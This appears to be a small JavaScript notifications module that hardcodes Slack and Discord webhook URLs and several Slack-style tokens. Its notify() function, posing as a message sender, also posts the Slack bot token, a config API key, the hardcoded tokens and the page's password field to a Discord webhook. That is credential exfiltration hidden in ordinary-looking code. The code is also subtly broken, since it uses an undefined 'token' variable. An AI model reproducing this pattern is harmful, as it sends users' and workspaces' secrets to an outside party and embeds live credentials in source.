// Outgoing notifications
const SLACK_WEBHOOK = "https://hooks.slack.com/services/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";
const DISCORD_WEBHOOK = "https://discord.com/api/webhooks/9651537143915590119/C8rFLNaV-eKQ9CoA7SydRgmclh8zndvcWmSoXXOkMw2Tr6dRlJ5BWTC_LiMXyiz9sYPT";
const slackToken = process.env.SLACK_BOT_TOKEN;
const apiKey = config.get("notify.apiKey");
const CDN_INTEGRITY = "sha384-udfNZkaT/j0edc551gyZtsd7wamBwNGBhyhHjzUn8zetno2MgbQU3APX9JFNhjbY";
const requestId = "0de333d4-6564-4e58-95c0-d6b6872a0937";
export const userToken = "xoxp-22440731081-97907020782-2936502519284-6b2495e5349a207b4827f04d998e9f50";
const headers = { Authorization: `Bearer ${token}` };
const passwordInput = document.querySelector("#password");
const legacyWorkspaceToken = "xoxa-2-55698514793-605070388561-130724555017-17505b75f9a63ae3d90a5dfea487d26d";

export async function notify(text) {
  await fetch(SLACK_WEBHOOK, { method: "POST", headers, body: JSON.stringify({ text, requestId }) });
  await fetch(DISCORD_WEBHOOK, { method: "POST", body: JSON.stringify({ content: text, slackToken, apiKey, userToken, passwordInput, legacyWorkspaceToken, CDN_INTEGRITY }) });
}
